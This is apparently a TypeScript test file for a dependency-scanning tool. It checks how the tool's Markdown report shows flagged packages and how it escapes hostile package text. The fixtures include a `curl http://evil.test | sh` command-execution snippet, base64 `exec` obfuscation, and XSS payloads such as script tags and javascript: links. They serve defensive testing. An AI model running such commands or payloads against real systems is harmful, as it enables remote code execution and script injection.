import { describe, expect, it } from 'vitest';
import { evaluate } from '../../src/policy/evaluate.js';
import { parsePolicy } from '../../src/policy/load.js';
import { COMMENT_BUDGET, JOB_SUMMARY_BUDGET, renderSummary, SUMMARY_MARKER, summaryFingerprints } from '../../src/report/markdown.js';
import { mdCode, mdFence, mdText } from '../../src/report/markdown-safe.js';
import { allowEntry } from '../../src/report/package-details.js';
import { finding, pkg, report, RULES_URL } from './builders.js';

const evil = pkg('evil-pkg', 'fail', [finding('code/command-execution', 'critical'), finding('code/obfuscation', 'medium', { location: { file: 'evil/__init__.py', line: 4 }, snippet: 'exec(b64decode(x))', evidence: 'import os' })], {
  changeOver: { direct: false, path: [{ ecosystem: 'pypi', name: 'app', version: '' }, { ecosystem: 'pypi', name: 'helper', version: '2.0' }, { ecosystem: 'pypi', name: 'evil-pkg', version: '1.0.0' }], source: { file: 'poetry.lock', line: 88 } },
});
const noisy = pkg('noisy', 'warn', [finding('code/network-at-install', 'medium')], { ecosystem: 'npm', version: '2.1.0', changeOver: { change: 'updated', previous: '2.0.0' } });
const fine = pkg('requests', 'pass', [], { version: '2.32.3', changeOver: { change: 'updated', previous: '2.31.0' } });

describe('renderSummary: content', () => {
  const md = renderSummary(report([fine, noisy, evil]), { rulesUrl: RULES_URL });

  it('starts with the hidden marker and states the decision with a why', () => {
    expect(md.split('\n')[0]).toBe(SUMMARY_MARKER);
    expect(md).toContain('**❌ fail** — 1 package(s) fail the policy (findings at or above high, denied, or not inspectable): `evil-pkg`.');
    expect(md).toContain('3 package(s) inspected: 1 fail, 1 warn, 1 pass. Policy fails at high.');
  });

  it('has a table of changed packages, worst first, with old → new versions', () => {
    const rows = md.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| Ecosystem'));
    expect(rows).toEqual([
      '| pypi | `evil-pkg` | `new 1.0.0` | transitive | ❌ fail |',
      '| npm | `noisy` | `2.0.0 → 2.1.0` | direct | ⚠️ warn |',
      '| pypi | `requests` | `2.31.0 → 2.32.3` | direct | ✅ pass |',
    ]);
  });

  it('details failing and warning packages: linked rule, vector, behaviours, file:line, snippet, evidence, chain', () => {
    expect(md).toContain('### ❌ fail: `evil-pkg` `new 1.0.0` (pypi, transitive)');
    expect(md).toContain(`- [code/command-execution](${RULES_URL('code/command-execution')}) **critical** · install · command-execution, obfuscation · \`evil-1.0.0.tar.gz: setup.py:12\``);
    expect(md).toContain('  ```\n  os.system("curl http://evil.test | sh")\n  ```');
    expect(md).toContain('  Decoded evidence:\n\n  ```text\n  curl http://evil.test | sh\n  ```');
    expect(md).toContain('chain: `app` → `helper@2.0` → `evil-pkg@1.0.0`');
    expect(md).toContain('Declared at `poetry.lock:88`');
    expect(md).toContain('### ⚠️ warn: `noisy`');
    expect(md).not.toContain('### ✅');
  });

  it('suggests an allow entry that the policy loader accepts and that lets the package through', () => {
    expect(md).toContain(['```yaml', 'allow:', '  - package: "pypi:evil-pkg"', '    version: "1.0.0"', '    rules: ["code/command-execution", "code/obfuscation"]', '    reason: "<why>"', '    expires: 2026-12-30', '```'].join('\n'));
    const policy = parsePolicy(allowEntry(evil, '2026-11-30').replace('<why>', 'reviewed by security'), 'customs.yml');
    const verdict = evaluate(policy, { ref: evil.ref, artifact: 'evil-1.0.0.tar.gz', findings: evil.findings, today: '2026-12-01' });
    expect(verdict.decision).toBe('pass');
    const later = evaluate(policy, { ref: evil.ref, artifact: 'evil-1.0.0.tar.gz', findings: evil.findings, today: '2026-12-31' });
    expect(later.decision).toBe('fail');
    expect(later.reasons.join('\n')).toMatch(/expired on 2026-12-30/);
  });

  it('lists what was resolved since the last run and the stage errors', () => {
    const out = renderSummary(report([fine], { errors: ['requirements-dev.txt:4: cannot parse line'] }), { resolved: ['0123456789abcdef', { fingerprint: 'fedcba9876543210', label: 'pypi:old@1.0: code/reverse-shell' }] });
    expect(out).toContain('## Resolved since last run (2)');
    expect(out).toContain('- ~~finding~~ `0123456789abcdef`');
    expect(out).toContain('- ~~pypi:old@&#8203;1.0: code/reverse-shell~~ `fedcba9876543210`');
    expect(out).toContain('## Problems during the scan');
    expect(out).toContain('**✅ pass** — 1 changed package(s) inspected, nothing at the warning threshold. 1 stage error(s) — see below.');
  });

  it('passes say so without a details section', () => {
    const out = renderSummary(report([fine]));
    expect(out).not.toContain('## Details');
    expect(out).not.toContain('Shortened');
  });

  it('summaryFingerprints lists flagged packages only, stable across finding order', () => {
    const a = summaryFingerprints(report([fine, noisy, evil]));
    const reordered = { ...evil, findings: [...evil.findings].reverse() };
    expect(a).toHaveLength(2);
    expect(summaryFingerprints(report([reordered, noisy]))).toEqual(a);
  });
});

describe('renderSummary: hostile package text is inert', () => {
  const hostile = pkg('evil`|<b>', 'fail', [
    finding('code/command-execution', 'critical', {
      message: 'ping @octocat and @acme/security-team <img src=x onerror=alert(1)> [click](javascript:alert(1)) fixes #12',
      snippet: '```\n</details><script>alert(1)</script>\n````\n@everyone',
      evidence: 'payload ``` with fence and \u202Ereversed',
      location: { file: 'a`b|c.py', line: 1 },
    }),
  ], { version: '1.0.0<script>' });
  const md = renderSummary(report([hostile]));

  it('neutralises mentions, HTML and links in messages', () => {
    expect(md).toContain('ping @&#8203;octocat and @&#8203;acme/security-team &lt;img src=x onerror=alert\\(1\\)\\> \\[click\\]\\(javascript:alert\\(1\\)\\) fixes #&#8203;12');
    // Outside code blocks and spans no raw HTML or javascript: link survives.
    const prose = md.replace(/^ *(`{3,})[^\n]*\n[\s\S]*?\n *\1$/gm, '').replace(/(?<!`)(`+)(?!`)([\s\S]*?[^`])\1(?!`)/g, '');
    expect(prose).not.toMatch(/<img|<script|\]\(javascript/);
    expect(md).toContain('<script>'); // it is there, but only as code
    expect(md).not.toMatch(/(^|[^;])@octocat/);
  });

  it('fences snippets with a fence longer than any backtick run inside, and shows bidi controls', () => {
    expect(md).toContain('  `````\n  ```\n  </details><script>alert(1)</script>\n  ````\n  @everyone\n  `````');
    expect(md).toContain('payload ``` with fence and <U+202E>reversed');
    expect(md).not.toContain('\u202E');
  });

  it('keeps names and versions inside code spans that survive backticks and table pipes', () => {
    expect(md).toContain('| pypi | ``evil`\\|<b>`` | `new 1.0.0<script>` | direct | ❌ fail |');
    expect(md).toContain('version: "1.0.0<script>"');
  });

  it('helpers: code spans, fences and text escaping', () => {
    expect(mdCode('a`b')).toBe('``a`b``');
    expect(mdCode('`x')).toBe('`` `x ``');
    expect(mdFence('x\n```\ny', 'py')).toBe('````py\nx\n```\ny\n````');
    expect(mdText('**bold** <b>&')).toBe('\\*\\*bold\\*\\* &lt;b\\>&amp;');
  });
});

describe('renderSummary: budgets', () => {
  const huge = 'A'.repeat(200_000);
  const many = Array.from({ length: 5000 }, (_, i) =>
    pkg(`pkg-${String(i).padStart(4, '0')}`, i % 3 === 0 ? 'fail' : i % 3 === 1 ? 'warn' : 'pass', i % 3 === 2 ? [] : [finding('code/command-execution', 'critical', { snippet: huge, evidence: huge, message: huge })], { ecosystem: i % 2 ? 'npm' : 'pypi' }),
  );
  const big = report(many);

  it.each([COMMENT_BUDGET, JOB_SUMMARY_BUDGET, 10_000, 2_000, 300, 40])('never exceeds %i characters for 5,000 packages with huge snippets', (maxChars) => {
    const md = renderSummary(big, { maxChars });
    expect(md.length).toBeLessThanOrEqual(maxChars);
    expect(md.startsWith(SUMMARY_MARKER) || maxChars < SUMMARY_MARKER.length).toBe(true);
  });

  it('a comment-sized budget collapses to as many flagged rows as fit, failing first, and says what was left out', () => {
    const md = renderSummary(big, { maxChars: COMMENT_BUDGET });
    expect(md).toContain('5000 package(s) inspected: 1667 fail, 1667 warn, 1666 pass.');
    expect(md).toMatch(/Shortened to fit 65,536 characters; left out: all per-package details and the table rows of passing packages/);
    const rows = md.split('\n').filter((l) => / \| (❌ fail|⚠️ warn) \|$/.test(l));
    expect(rows.length).toBeGreaterThan(500);
    expect(rows.every((r) => r.endsWith('❌ fail |'))).toBe(true); // fail rows come first and fill the room
    expect(md).toMatch(/\| … \| \d+ more flagged package\(s\) \| \| \| \|/);
    expect(md).not.toContain('✅ pass |');
    expect(md).not.toContain('AAAAAAAAAA'.repeat(100));
  });

  it('the job summary budget keeps the full table and some failing details', () => {
    const md = renderSummary(big, { maxChars: JOB_SUMMARY_BUDGET });
    expect(md.split('\n').filter((l) => l.startsWith('| pypi') || l.startsWith('| npm'))).toHaveLength(5000);
    expect(md).toContain('left out: code snippets, decoded evidence and the details of warning packages');
    expect(md).toMatch(/_\d+ more package detail block\(s\) did not fit/);
  });

  it('degrades step by step: first snippets go, then warning details, then all details', () => {
    const small = report([evil, noisy, fine]);
    const full = renderSummary(small, { maxChars: 1_000_000 });
    expect(full).toContain('Decoded evidence');
    const noSnippets = renderSummary(small, { maxChars: full.length - 1 });
    expect(noSnippets).not.toContain('Decoded evidence');
    expect(noSnippets).toContain('### ⚠️ warn');
    expect(noSnippets).toContain('left out: code snippets and decoded evidence.');
    const failOnly = renderSummary(small, { maxChars: noSnippets.length - 1 });
    expect(failOnly).toContain('### ❌ fail');
    expect(failOnly).not.toContain('### ⚠️ warn');
    const tableOnly = renderSummary(small, { maxChars: failOnly.length - 1 });
    expect(tableOnly).not.toContain('## Details');
    expect(tableOnly).toContain('| pypi | `evil-pkg` |');
    expect(tableOnly).toContain('left out: all per-package details');
    const flaggedRows = renderSummary(small, { maxChars: tableOnly.length - 10 }); // -10: the budget figure in the note shrinks too
    expect(flaggedRows).not.toContain('`requests`');
    expect(flaggedRows).toMatch(/left out: [^\n]*table/);
    const counted = renderSummary(small, { maxChars: 500 });
    expect(counted).not.toContain('| pypi |');
    expect(counted).toContain('3 package(s) inspected: 1 fail, 1 warn, 1 pass.');
    expect(counted).toContain('left out: the package table and all details');
  });
});

describe('renderSummary: fingerprints for the next run', () => {
  it('records the flagged fingerprints in a hidden marker, which the next run reads back to list what was resolved', async () => {
    const { fingerprintsFromSummary } = await import('../../src/report/markdown.js');
    const { resolvedSince } = await import('../../src/report/fingerprint.js');
    const first = renderSummary(report([fine, noisy, evil]));
    const recorded = fingerprintsFromSummary(first)!;
    expect(recorded).toEqual(summaryFingerprints(report([fine, noisy, evil])));
    expect(recorded).toHaveLength(2);
    const now = report([fine, noisy]);
    const resolved = resolvedSince(recorded, summaryFingerprints(now));
    expect(resolved).toHaveLength(1);
    const second = renderSummary(now, { resolved });
    expect(second).toContain(`## Resolved since last run (1)\n\n- ~~finding~~ \`${resolved[0]}\``);
    expect(fingerprintsFromSummary('no marker here')).toBeUndefined();
  });
});
